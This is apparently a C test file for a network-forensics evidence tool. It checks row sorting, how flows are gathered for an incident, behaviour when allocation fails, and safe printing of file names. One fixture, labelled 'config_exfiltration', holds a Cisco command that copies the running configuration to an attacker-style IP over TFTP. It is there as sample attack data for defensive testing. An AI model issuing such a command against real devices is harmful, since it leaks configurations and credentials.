/* SPDX-License-Identifier: BSD-2-Clause */
#include <criterion/criterion.h>

#include "smin/abi_lent.h"
#include "smin/status.h"
#include "tests/support/failing_alloc.h"
#include "tools/replay/evidence_note.h"
#include "tools/replay/evidence_wanted.h"

static int by_value(const void *left, const void *right)
{
    const uint64_t *a = left, *b = right;
    return *a < *b ? -1 : *a > *b;
}

Test(rows, are_sorted_stand_once_and_are_found)
{
    static const uint64_t given[] = {7, 3, 7, 9, 3, 1};
    struct smini_alloc alloc;
    struct smini_rows rows;
    uint64_t wanted = 7;
    smini_alloc_init(&alloc, 0);
    smini_rows_init(&rows, &alloc, sizeof(uint64_t), 6);
    for (size_t i = 0; i < 6; i++)
        cr_assert(smini_rows_add(&rows, &given[i]) == SMIN_OK);
    cr_assert(smini_rows_add(&rows, &wanted) == SMIN_E_LIMIT && rows.count == 6);
    smini_rows_sort(&rows, by_value);
    cr_assert(rows.count == 4 && *(uint64_t *)smini_rows_at(&rows, 0) == 1 && *(uint64_t *)smini_rows_at(&rows, 3) == 9);
    cr_assert(smini_rows_lower(&rows, &wanted, by_value) == 2);
    wanted = 10;
    cr_assert(smini_rows_lower(&rows, &wanted, by_value) == 4);
    smini_rows_free(&rows);
    cr_assert(alloc.used == 0 && rows.count == 0);
}

/* --- which flows a slice holds --- */

enum { COMMAND = 101, REQUEST, DATA, MORE_DATA, STRANGER, ANOTHER };

static const struct smini_incident_address actor = {4, {198, 51, 100, 7}}, device = {4, {192, 0, 2, 10}};

static struct smini_incident_set *stolen(struct smini_alloc *alloc)
{
    struct smini_incident_options options;
    struct smini_incident_set *set = NULL;
    const struct smini_span event = smini_span_text("config_exfiltration");
    const struct smini_span command = smini_span_text("copy system:running-config tftp://198.51.100.7/x.conf");
    const struct smini_span url = smini_span_text("tftp://198.51.100.7/x.conf");
    struct smini_incident_message message = {.place = {"a.pcap", 4, 1000000000},
                                             .flow_id = COMMAND,
                                             .client = actor,
                                             .server = device,
                                             .client_port = 50000,
                                             .server_port = 4786,
                                             .to_server = true,
                                             .from = 1,
                                             .name = smini_span_text("backup_request"),
                                             .events = &event,
                                             .event_count = 1,
                                             .urls = &url,
                                             .url_count = 1,
                                             .commands = &command,
                                             .command_count = 1};
    struct smini_incident_transfer transfer = {.place = {"a.pcap", 9, 2000000000},
                                               .end_ns = 2100000000,
                                               .flow_id = REQUEST,
                                               .ordered_flow_id = COMMAND,
                                               .ordered = true,
                                               .client = device,
                                               .server = actor,
                                               .client_port = 50001,
                                               .server_port = 69,
                                               .to_server = true,
                                               .state = SMINI_TRANSFER_CLOSED,
                                               .size = 10,
                                               .name = smini_span_text("x.conf"),
                                               .protocol = smini_span_text("tftp"),
                                               .type = smini_span_text("ios-config")};
    smini_incident_options_default(&options);
    if (smini_incident_new(&set, alloc, &options) != SMIN_OK)
        return NULL;
    cr_assert(smini_incident_add_message(set, &message) == SMIN_OK);
    cr_assert(smini_incident_add_transfer(set, &transfer) == SMIN_OK);
    cr_assert(smini_incident_finish(set) == SMIN_OK);
    return set;
}

static int32_t gather(struct smini_alloc *alloc, const struct smini_incident_set *set, struct smini_rows *wanted)
{
    static const struct smini_evidence_link known[] = {{REQUEST, COMMAND, 0},  {DATA, REQUEST, 1}, {MORE_DATA, REQUEST, 1},
                                                       {STRANGER, COMMAND, 0}, {DATA, REQUEST, 1}, {ANOTHER, STRANGER, 1}};
    struct smini_rows links;
    int32_t status = SMIN_OK;
    smini_rows_init(wanted, alloc, sizeof(struct smini_wanted), SMINI_EVIDENCE_FLOWS_MAX);
    smini_rows_init(&links, alloc, sizeof(struct smini_evidence_link), SMINI_EVIDENCE_LINKS_MAX);
    for (size_t i = 0; i < sizeof(known) / sizeof(known[0]) && status == SMIN_OK; i++)
        status = smini_rows_add(&links, &known[i]);
    if (status == SMIN_OK)
        status = smini_wanted_gather(wanted, set, &links);
    smini_rows_free(&links);
    return status;
}

Test(evidence, a_slice_holds_the_command_and_all_parts_of_the_transfer_and_no_other_one)
{
    struct smini_alloc alloc;
    struct smini_rows wanted;
    smini_alloc_init(&alloc, 0);
    struct smini_incident_set *set = stolen(&alloc);
    cr_assert(set && smini_incident_get(set, 0) && !smini_incident_get(set, 1));
    cr_assert(gather(&alloc, set, &wanted) == SMIN_OK && wanted.count == 4);
    cr_assert(smini_wanted_find(&wanted, COMMAND, "a.pcap") == 0);
    cr_assert(smini_wanted_find(&wanted, REQUEST, "a.pcap") == 1);
    cr_assert(smini_wanted_find(&wanted, DATA, "a.pcap") == 2);
    cr_assert(smini_wanted_find(&wanted, MORE_DATA, "a.pcap") == 3);
    cr_assert(smini_wanted_find(&wanted, STRANGER, "a.pcap") == SIZE_MAX);
    cr_assert(smini_wanted_find(&wanted, COMMAND, "b.pcap") == SIZE_MAX);
    smini_rows_free(&wanted);
    smini_incident_free(&set);
    cr_assert(alloc.used == 0);
}

Test(evidence, any_allocation_may_fail_while_flows_are_gathered)
{
    struct smini_alloc alloc;
    smini_alloc_init(&alloc, 0);
    struct smini_incident_set *set = stolen(&alloc);
    int32_t status = SMIN_E_NOMEM;
    for (uint64_t n = 1; status != SMIN_OK; n++) {
        struct failing_alloc failing;
        struct smini_rows wanted;
        failing_alloc_open(&failing);
        failing_alloc_fail_nth(&failing, n);
        status = gather(&failing.alloc, set, &wanted);
        cr_assert(status == SMIN_OK || status == SMIN_E_NOMEM);
        cr_assert(n < 20);
        smini_rows_free(&wanted);
        cr_assert(failing_alloc_clean(&failing));
    }
    smini_incident_free(&set);
}

/* --- what stands beside packets --- */

Test(evidence, a_note_is_printable_whatever_the_network_named_a_file)
{
    struct smini_alloc alloc;
    struct smini_bytebuf note;
    uint8_t name[300];
    struct smini_file_view file = {.name = smini_span_make(name, sizeof(name)), .size = 3, .type = "data",
                                   .state = SMIN_FILE_CLOSED};
    for (size_t i = 0; i < sizeof(name); i++)
        name[i] = (uint8_t)i;
    smini_alloc_init(&alloc, 0);
    smini_bytebuf_init(&note, &alloc, SMINI_NOTE_BYTES_MAX);
    smini_note_file(&note, &file);
    for (size_t i = 0; i < note.length; i++)
        cr_assert(note.bytes[i] == '\n' || (note.bytes[i] >= 0x20 && note.bytes[i] < 0x7f));
    cr_assert(smini_bytebuf_add(&note, smini_span_make("", 1)) == SMIN_OK);
    cr_assert(strstr((const char *)note.bytes, "file \\x00\\x01") && strstr((const char *)note.bytes, "[... 140 bytes ...]"));
    smini_bytebuf_clear(&note);
    note.cap = 10;
    smini_note_file(&note, &file);
    cr_assert(note.length <= 10);
    smini_bytebuf_free(&note);
}
